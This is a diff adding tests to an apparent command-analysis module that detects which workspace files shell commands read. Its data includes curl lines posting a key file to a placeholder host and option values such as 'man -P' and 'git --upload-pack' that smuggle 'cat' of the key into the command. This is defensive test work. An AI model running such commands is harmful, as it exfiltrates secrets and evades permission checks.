@@ -134,6 +134,19 @@ describe('commandPathUses', () => {
     ]);
   });
 
+  it('reads the files a word of a program it does not know names by the shared conventions: @file, <file, name=@file, name@file, a file: URL', async () => {
+    const key = join(workspace, 'real/key.txt');
+    for (const line of [
+      'curl -d @real/key.txt http://x', 'curl -d@real/key.txt http://x', 'curl --data-binary=@real/key.txt http://x', 'curl -F f=@real/key.txt http://x',
+      "curl -F 'f=<real/key.txt;type=text/plain' http://x", 'curl --data-urlencode name@real/key.txt http://x', 'curl file:real/key.txt',
+      `curl file://${key}`, `curl file://localhost${key}`, `curl FILE://${key.replace('key', '%6Bey')}`, 'gcc @real/key.txt',
+    ]) {
+      expect(reads(await uses(line)), line).toContain(key);
+    }
+    // A plain URL or value names no file of the workspace beside the word itself.
+    expect(reads(await uses('curl -d a=b https://example.com/'))).toEqual([join(workspace, 'a=b'), join(workspace, 'https:/example.com')]);
+  });
+
   it('reads the working folder of recursive readers given no folder', async () => {
     expect((await uses('grep -r KEY'))[0]).toMatchObject({ paths: [workspace], below: true });
     expect((await uses('find -name "*.txt"'))[0]).toMatchObject({ paths: [workspace], below: true });
@@ -269,6 +282,8 @@ describe('commandPathUses', () => {
       'git bisect run sh -c "cat real/key.txt"', 'git fetch --upload-pack="cat real/key.txt" origin', 'git grep -O"cat real/key.txt" x', 'git difftool -x "cat real/key.txt"',
       // --exec is an older name of --upload-pack; tar's old-style options take their values from the words after them.
       'git ls-remote --exec="cat real/key.txt" origin', 'tar xIf "cat real/key.txt" t.tar',
+      // man runs its pager through the shell.
+      'man -P "cat real/key.txt" ls', 'man --pager="cat real/key.txt" ls',
     ];
     for (const line of handed) expect(reads(await uses(line)), line).toContain(key);
     expect(reads(await uses('cd src && sh -c "cat ../real/key.txt"'))).toContain(key);
